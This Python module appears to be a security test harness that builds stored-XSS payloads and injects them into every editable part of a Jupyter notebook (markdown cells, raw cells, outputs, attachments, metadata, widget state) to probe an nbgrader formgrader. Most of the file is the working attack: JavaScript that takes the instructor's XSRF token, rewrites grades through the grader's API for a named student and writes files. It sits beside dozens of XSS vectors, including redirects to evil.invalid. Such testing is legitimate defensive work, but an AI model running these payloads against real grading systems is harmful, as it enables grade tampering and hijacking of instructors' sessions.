"""Stored script injection: the payload and every channel of a notebook that carries it into a page.

Each payload, if it ever runs in the formgrader with the instructor's
session, (a) sets dana_bessel's ``normal_mle`` grade to 1 and its own written
answer to 2/2 through the formgrader's REST API with the page's XSRF token,
(b) writes ``xss-<label>.txt`` through ``/api/contents``, and (c) leaves a
marker: ``window.name`` and ``document.title`` get ``xss:<label>``, the
console says ``XSS-RAN <label>``. The label names the channel, so a run with
sanitising switched off shows which channels are live.

``xss_everywhere.py`` beside this folder carries the payload through what the
kernel outputs (its copy of the script is the same); :func:`inject` carries it
through every part of the notebook file itself.
"""

import base64
import copy

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

SCRIPT = """(function(){var L="LABEL";
try{window.name+="|xss:"+L;document.title="xss:"+L;console.log("XSS-RAN "+L);}catch(e){}
var m=document.cookie.match(/_xsrf=([^;]+)/),h={"X-XSRFToken":m?m[1]:"","Content-Type":"application/json"};
var b=location.origin+(window.base_url||"/formgrader").replace(/\\/formgrader$/,"");
function j(r){return r.json();}
fetch(b+"/formgrader/api/submitted_notebooks/01_normal_mle/normal_mle").then(j).then(function(s){
s.forEach(function(n){fetch(b+"/formgrader/api/grades?submission_id="+n.id).then(j).then(function(g){
g.forEach(function(x){var v=(n.student=="dana_bessel"&&x.name=="normal_mle")?1:(x.name=="bias_answer"?2:null);
if(v!==null){fetch(b+"/formgrader/api/grade/"+x.id,
{method:"PUT",headers:h,body:JSON.stringify({manual_score:v,extra_credit:null})});}});});});});
fetch(b+"/api/contents/xss-"+L+".txt",
{method:"PUT",headers:h,body:JSON.stringify({type:"file",format:"text",content:L})});})();"""


def script(label: str) -> str:
    """The payload's JavaScript for one channel."""
    return SCRIPT.replace("LABEL", label)


def js(label: str) -> str:
    """A JavaScript expression that runs the payload, free of quotes and angle brackets: it fits any context."""
    encoded = base64.b64encode(script(label).encode()).decode()
    return f"eval(atob(`{encoded}`))"


def raw_html(prefix: str) -> dict[str, str]:
    """Raw HTML that runs the payload as soon as a browser renders it, one snippet per trick."""
    p = prefix
    return {
        f"{p}script": f"<script>{js(p + 'script')}</script>",
        f"{p}img": f'<img src="x" onerror="{js(p + "img")}">',
        f"{p}svg": f'<svg onload="{js(p + "svg")}"><circle r="1"/></svg>',
        f"{p}iframe": f'<iframe srcdoc="<script>parent.{js(p + "iframe")}</script>"></iframe>',
        f"{p}details": f'<details open ontoggle="{js(p + "details")}"><summary>s</summary></details>',
        f"{p}autofocus": f'<input autofocus onfocus="{js(p + "autofocus")}">',
        f"{p}object": f'<object data="javascript:{js(p + "object")}"></object>',
        f"{p}embed": f'<embed src="javascript:{js(p + "embed")}">',
        f"{p}mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{js(p + "mxss")}"></style></mglyph>'
        "</table></mtext></math>",
        f"{p}noscript": f'<noscript><p title="</noscript><img src=x onerror={js(p + "noscript")}>"></p></noscript>',
        f"{p}style": "<style>.score, .comment, .nbgrader_cell .panel-heading {display:none !important} "
        f"body::before {{content: 'xss:{p}style'}}</style>",
        f"{p}base": '<base href="https://evil.invalid/">',
        f"{p}meta": '<meta http-equiv="refresh" content="20;url=https://evil.invalid/">',
        f"{p}form": '<form action="/api/contents/xss-form.txt" method="post"><button>Save</button></form>',
        f"{p}unclosed": "<img src=x alt='",  # swallows the page up to the next quote, then:
        f"{p}closer": f"' onerror='{js(p + 'closer')}' x='",
        f"{p}clobber": '<h1 id="normal_mle">clobbers the score box</h1><img name="getElementById">',
    }


def markdown(prefix: str) -> str:
    """A written answer (markdown) that carries the payload through raw HTML and through markdown itself."""
    p = prefix
    lines = [
        "The estimator divides by n, so it is biased: $E[\\hat\\sigma^2] = \\frac{n-1}{n}\\sigma^2$.",
        "",
        *raw_html(p).values(),
        "",
        f"[a link](javascript:{js(p + 'mdlink')}) and [another](<javascript:{js(p + 'mdlink2')}>)",
        f"![an image](javascript:{js(p + 'mdimage')}) [ref][r]",
        "",
        f"[r]: java&#115;cript:{js(p + 'mdref')}",
        "",
        f"<javascript:{js(p + 'autolink')}>",
        "",
        "[a page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [a file](evil.html)",
        "",
        "```mermaid",
        f'<img src=x onerror="{js(p + "mermaid")}">',
        "```",
        "",
        "# normal_mle",
        "",
        f"$\\href{{javascript:{js(p + 'mathhref')}}}{{click}}$",
    ]
    return "\n".join(lines)


def svg(label: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(label)}"><script>{js(label + "2")}</script>'
        '<circle r="4"/></svg>'
    )


def outputs(prefix: str) -> list[NotebookNode]:
    """Outputs of every type and mimetype carrying the payload, as a kernel (or the .ipynb) can hold them."""
    p = prefix
    html = "".join(raw_html(p + "out-").values())
    return [
        new_output("display_data", data={"text/html": html, "text/plain": "html"}),
        new_output("display_data", data={"application/javascript": js(p + "javascript"), "text/plain": "js"}),
        new_output("display_data", data={"image/svg+xml": svg(p + "svg-output")}),
        new_output("display_data", data={"text/markdown": markdown(p + "out-md-")}),
        new_output("display_data", data={"text/latex": f"$\\href{{javascript:{js(p + 'latex')}}}{{x}}$"}),
        new_output(
            "display_data",
            data={"application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2}},
        ),
        new_output(
            "display_data",
            data={"text/html": f"<img src=x onerror={js(p + 'isolated')}>"},
            metadata={"text/html": {"isolated": True}},
        ),
        new_output(
            "display_data",
            data={"image/png": f'" onerror="{js(p + "png")}'},
            metadata={"image/png": {"width": f'1" onerror="{js(p + "pngwidth")}'}, "filenames": {"image/png": "x"}},
        ),
        new_output("display_data", data={"application/x-anything": f"<script>{js(p + 'unknown')}</script>"}),
        new_output(
            "execute_result",
            data={"text/html": f"<svg><script>{js(p + 'result')}</script></svg>", "text/plain": "r"},
            execution_count=1,
        ),
        new_output("stream", name="stdout", text=f"<img src=x onerror={js(p + 'stream')}>\x1b[31m<script>x</script>"),
        new_output(
            "error",
            ename=f"<img src=x onerror={js(p + 'ename')}>",
            evalue=f"<svg onload={js(p + 'evalue')}>",
            traceback=[f"\x1b[0;31m<img src=x onerror={js(p + 'traceback')}>\x1b[0m"],
        ),
    ]


WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "m1": {
                "model_name": "HTMLModel",
                "model_module": "@jupyter-widgets/controls",
                "model_module_version": "2.0.0",
                "state": {"value": f"<img src=x onerror={js('widget-state')}>"},
            }
        },
    }
}


def inject(notebook: NotebookNode, attachments: bool = True) -> NotebookNode:
    """A copy of ``notebook`` with the payload in every part of the file a learner can edit.

    Without ``attachments``, no cell refers to one: stock nbconvert refuses a whole page that refers to an
    attachment the notebook lacks (and the grader drops SVG and HTML attachments), which hides every other
    channel when sanitising is switched off to show that they are live.
    """
    nb = copy.deepcopy(notebook)
    svg_b64 = base64.b64encode(svg("attachment-svg").encode()).decode()
    html_b64 = base64.b64encode(f"<script>{js('attachment-html')}</script>".encode()).decode()
    extra = new_markdown_cell(
        markdown("cell-") + ("\n\n![svg](attachment:a.svg) ![html](attachment:b.html)" if attachments else ""),
        attachments={"a.svg": {"image/svg+xml": svg_b64}, "b.html": {"text/html": html_b64}},
    )
    extra.metadata = {
        "tags": [f'x" onmouseover="{js("tag")}'],
        "nbgrader": {"grade_id": f'"><img src=x onerror={js("grade-id")}>', "solution": True, "grade": False},
        "alt": f'" onerror="{js("alt")}',
    }
    raw = new_raw_cell("".join(raw_html("raw-").values()), metadata={"raw_mimetype": "text/html"})
    raw_plain = new_raw_cell(f"<script>{js('raw-plain')}</script>")
    nb.cells[1:1] = [extra, raw, raw_plain]
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell.outputs = outputs("file-")  # the autograder clears them; they must not survive either way
            break
    nb.metadata["widgets"] = WIDGET_STATE
    nb.metadata["title"] = f"</title><script>{js('title')}</script>"
    nb.metadata.setdefault("language_info", {})["name"] = f"<script>{js('language')}</script>"
    nbformat.validate(nb)
    return nb
